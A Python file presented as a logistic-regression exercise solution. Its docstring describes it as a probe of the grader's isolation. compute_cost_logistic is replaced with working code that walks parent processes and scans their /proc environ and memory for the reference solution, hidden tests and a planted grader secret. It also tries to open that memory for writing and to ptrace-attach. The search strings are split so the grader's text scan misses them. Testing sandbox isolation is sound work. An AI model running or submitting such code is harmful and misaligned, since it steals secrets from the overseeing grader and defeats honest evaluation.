"""The grader's memory: compute_cost_logistic walks up its ancestors (through
/proc/PID/stat, or getppid where /proc is closed) and, in each, looks for the
reference's and the hidden tests' docstrings and the grader's planted
GRADER_TEST_SECRET: in /proc/PID/environ and in every readable mapping of
/proc/PID/mem. It also tries to open that memory for writing and to attach with
PTRACE_ATTACH (detaching at once). It prints a line per ancestor and raises
RuntimeError naming whatever it found. Expected: compute_cost_logistic 0 with
"found nothing" each time, nothing of the reference, the hidden tests or the
secret in the report, full marks elsewhere.
"""


import numpy as np
import ctypes
import os
import re
import time


# Built at run time: the grader holds this file's text, which must not match.
_WANTED = [("Reference solution" + " for exercise3").encode(), ("Hidden tests" + " for compute_cost").encode(),
           ("GRADER_TEST" + "_SECRET=").encode()]
_BUDGET = 1.0  # seconds of reading per call


def _ancestors():
    found, pid = [], os.getpid()
    while True:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pid = os.getppid() if not found else 0  # /proc closed: only the parent is known
        if pid <= 1 or pid in found:
            return found
        found.append(pid)


def _search(data, where, hits):
    for wanted in _WANTED:
        for match in re.finditer(re.escape(wanted), data):
            tail = data[match.end():match.end() + 40].split(b"\0")[0]
            hits.append(f"{where}: {(wanted + tail).decode('ascii', 'replace')}")


def _try(action):
    try:
        return action()
    except OSError as exc:
        return f"denied ({os.strerror(exc.errno) if exc.errno else exc})"


def _environ(pid, hits):
    with open(f"/proc/{pid}/environ", "rb") as f:
        _search(f.read(), f"pid {pid} environ", hits)
    return "read"


def _memory(pid, hits, deadline):
    with open(f"/proc/{pid}/maps") as f:
        regions = [line.split() for line in f]
    read = 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        # Writable mappings first: the heap holds what the grader loaded.
        for fields in sorted(regions, key=lambda r: "w" not in r[1]):
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            for at in range(start, end, 1 << 20):
                if time.monotonic() > deadline:
                    return f"read {read >> 20} MB (out of time)"
                try:
                    mem.seek(at)
                    chunk = mem.read(min(1 << 20, end - at))
                except OSError:
                    break
                read += len(chunk)
                _search(chunk, f"pid {pid} mem", hits)
    return f"read {read >> 20} MB"


def _writable(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0):
        return "OPENED FOR WRITING"


def _attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    try:
        os.waitpid(pid, 0x40000000)  # __WALL: until it stops
    finally:
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: and it runs on
    return "ATTACHED"


def _look(pid, hits, deadline):
    """Everything tried on process `pid`, as one line; what was found goes to `hits`."""
    environ = _try(lambda: _environ(pid, hits))
    memory = _try(lambda: _memory(pid, hits, deadline))
    return (f"pid {pid}: environ {environ}; mem {memory}; for writing {_try(lambda: _writable(pid))}; "
            f"ptrace {_try(lambda: _attach(pid))}")


def _attack():
    hits, deadline = [], time.monotonic() + _BUDGET
    ancestors = _ancestors()
    print("\n".join(_look(pid, hits, deadline) for pid in ancestors))
    return hits, len(ancestors)


def sigmoid(z):
    """1 / (1 + e^(-z)), elementwise; a scalar in gives a numpy scalar out."""
    z = np.asarray(z, dtype=np.float64)
    result = np.exp(-np.logaddexp(0.0, -z))
    return result[()] if result.ndim == 0 else result


def compute_cost_logistic(X, y, w, b):
    """Looks through its ancestors' memory; raises with what it found."""
    hits, count = _attack()
    if hits:
        raise RuntimeError("found " + " | ".join(hits))
    raise RuntimeError(f"found nothing in {count} ancestors")


def compute_gradient_logistic(X, y, w, b):
    """Returns (dj_db, dj_dw): the gradient of the mean logistic loss (sigmoid inlined)."""
    m = X.shape[0]
    err = np.exp(-np.logaddexp(0.0, -(X @ w + b))) - y
    dj_dw = X.T @ err / m
    dj_db = float(np.sum(err) / m)
    return dj_db, dj_dw


def gradient_descent(X, y, w_in, b_in, alpha, num_iters):
    """Batch gradient descent; returns (w, b, J_history) (gradient and cost inlined)."""
    w = np.array(w_in, dtype=np.float64)
    b = float(b_in)
    m = X.shape[0]
    J_history = []
    for _ in range(num_iters):
        err = np.exp(-np.logaddexp(0.0, -(X @ w + b))) - y
        w = w - alpha * (X.T @ err / m)
        b = b - alpha * float(np.sum(err) / m)
        z = X @ w + b
        J_history.append(float(np.mean(y * np.logaddexp(0.0, -z) + (1 - y) * np.logaddexp(0.0, z))))
    return w, b, J_history
